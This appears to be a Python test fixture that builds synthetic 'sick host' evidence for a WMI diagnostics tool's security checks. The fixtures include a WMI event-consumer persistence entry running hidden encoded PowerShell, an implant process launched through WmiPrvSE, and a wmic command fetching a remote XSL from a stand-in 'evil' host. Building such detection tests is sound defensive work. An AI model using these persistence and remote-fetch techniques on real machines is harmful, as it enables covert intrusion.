"""Sick hosts for the security checks (hand-made evidence: the checks' own mechanics; the verdicts on real
attacked hosts are tested in tests/checks/security on the corpus)."""

from __future__ import annotations

from collections.abc import Callable

from wmidoctor.evidence.chains import NetworkLogon, ProcessStart
from wmidoctor.evidence.model import EventConsumer, Evidence

WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"


def _updater(ev: Evidence) -> None:
    ev.subscriptions.consumers.append(
        EventConsumer(
            "root\\subscription",
            "CommandLineEventConsumer",
            "Updater",
            {"CommandLineTemplate": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="},
            "S-1-5-21-1-2-3-1001",
            source='repository:root\\subscription:CommandLineEventConsumer.Name="Updater"',
        )
    )


def _remote_process(ev: Evidence) -> None:
    ev.wmi_traces.logons.append(
        NetworkLogon(
            "CONTOSO\\operator",
            "0x1234",
            "127.0.0.2",
            "Kerberos",
            "2024-05-01T10:00:00.000000Z",
            "SICK01",
            "evtx:Security.evtx#record 7",
        )
    )
    ev.wmi_traces.processes.append(
        ProcessStart(
            "C:\\Windows\\System32\\implant.exe",
            "implant.exe",
            "4242",
            WMIPRVSE,
            "3460",
            "wmiprvse.exe -secured",
            "CONTOSO\\operator",
            "0x1234",
            "High",
            "2024-05-01T10:00:01.000000Z",
            "SICK01",
            "evtx:Sysmon.evtx#record 9",
            "Sysmon 1",
        )
    )


def _wmic_xsl(ev: Evidence) -> None:
    ev.wmi_traces.processes.append(
        ProcessStart(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            'wmic os get /format:"https://example.invalid/evil.xsl"',
            "1064",
            "C:\\Windows\\System32\\cmd.exe",
            "900",
            "",
            "SICK01\\user",
            "0x99",
            "Medium",
            "2024-05-01T10:00:00.000000Z",
            "SICK01",
            "evtx:Sysmon.evtx#record 3",
            "Sysmon 1",
        )
    )


SECURITY_SICK: dict[str, Callable[[Evidence], None]] = {
    "security.subscriptions": _updater,
    "security.wmi-execution": _remote_process,
    "security.wmic-xsl": _wmic_xsl,
}
